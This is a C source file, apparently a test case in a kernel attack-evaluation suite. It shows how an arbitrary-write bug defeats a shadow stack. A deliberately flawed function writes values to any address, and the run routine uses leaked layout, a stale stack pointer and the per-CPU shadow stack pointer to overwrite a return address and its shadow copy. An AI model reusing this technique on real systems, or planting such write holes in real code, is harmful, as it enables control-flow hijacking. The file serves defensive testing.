/* SPDX-License-Identifier: BSD-3-Clause */
/*
 * Both of a shadow stack's copies: a call that writes a list of words where it is told overwrites its own return
 * address and the copy of it. Where the two are is read from struct cpu, and from what a request before has left.
 */
#include "attacks.h"

#include <instrumentation/shadowstack/place.h>
#include <kernel/cpu.h>

struct pair {
	uintptr_t where;
	uint64_t value;
};

static struct attack_frame frame;
static struct attack_leaky last; /* pointer: a variable of the last call, long over */
static uintptr_t shadow_inside;

/* The mistake: where is anywhere. */
static NOINLINE void apply(const struct pair *pairs, size_t count)
{
	uint64_t done[2] = { 0 };
	uint64_t *all = attack_opaque(&done[0]);

	attack_frame_note(&frame, done);
	last.pointer = all;
	if (IS_ENABLED(CONFIG_SHADOW_STACK))
		__asm__ volatile("movq %%gs:%c1, %0" : "=r"(shadow_inside) : "i"(SHADOW_STACK_POINTER));
	for (size_t i = 0; i < count; i++) {
		*(volatile uint64_t *)pairs[i].where = pairs[i].value;
		all[0]++;
	}
}

static bool benign(const struct attack *attack)
{
	uint64_t words[2] = { 0 };
	const struct pair pairs[2] = { { (uintptr_t)&words[0], 4 }, { (uintptr_t)&words[1], 5 } };

	apply(pairs, 2);
	return attack_opaque(&words[0])[0] == 4 && attack_opaque(&words[0])[1] == 5;
}

static void run(const struct attack *attack)
{
	uintptr_t slide = attack_leaked_slide(), cpu = attack_read64(attack_linked(&cpus[0]) + slide);
	struct pair pairs[2] = { 0 };
	ptrdiff_t deeper; /* from here to inside of apply(): the disassembly's */

	apply(pairs, 0);
	deeper = (ptrdiff_t)(shadow_inside - attack_read64(cpu + SHADOW_STACK_POINTER));
	pairs[0].where = attack_leaky_read(&last, ATTACK_LEAK) + (uintptr_t)frame.to_return;
	pairs[1].where = attack_read64(cpu + SHADOW_STACK_POINTER) + (uintptr_t)deeper - sizeof(uint64_t);
	pairs[0].value = pairs[1].value = attack_linked_code(attack_goal) + slide;
	attack_primitive(attack);
	apply(pairs, 2);
}

ATTACK(shadow_content, .family = "shadow stack", .primitive = ARBITRARY_WRITE, .knowledge = LAYOUT_LEAKED,
       .stopped_by = "", .aims_at = "shadowstack", .about = "a return address and its copy are both overwritten",
       .run = run, .benign = benign);
